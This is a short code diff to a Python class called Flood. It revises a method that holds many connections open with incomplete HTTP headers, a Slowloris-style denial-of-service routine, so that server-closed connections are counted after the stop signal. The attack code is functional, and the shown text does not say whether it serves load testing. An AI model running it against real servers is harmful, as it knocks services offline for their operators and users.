@@ -113,7 +113,9 @@ class Flood:
     def slow_ones(self) -> None:
         """As many connections as can be had, each of which sends a byte now and then."""
         held: list[socket.socket] = []
-        while not self.over.is_set():
+        over = False
+        while not over:
+            over = self.over.wait(1)  # one more round, to count those that are ended by then
             while len(held) < SLOW:
                 connection = self.connect()
                 connection.sendall(b"GET / HTTP/1.1\r\nX: ")
@@ -126,7 +128,6 @@ class Flood:
                     held.remove(connection)
                     connection.close()
                     self.cut += 1
-            self.over.wait(1)
         for connection in held:
             connection.close()
 
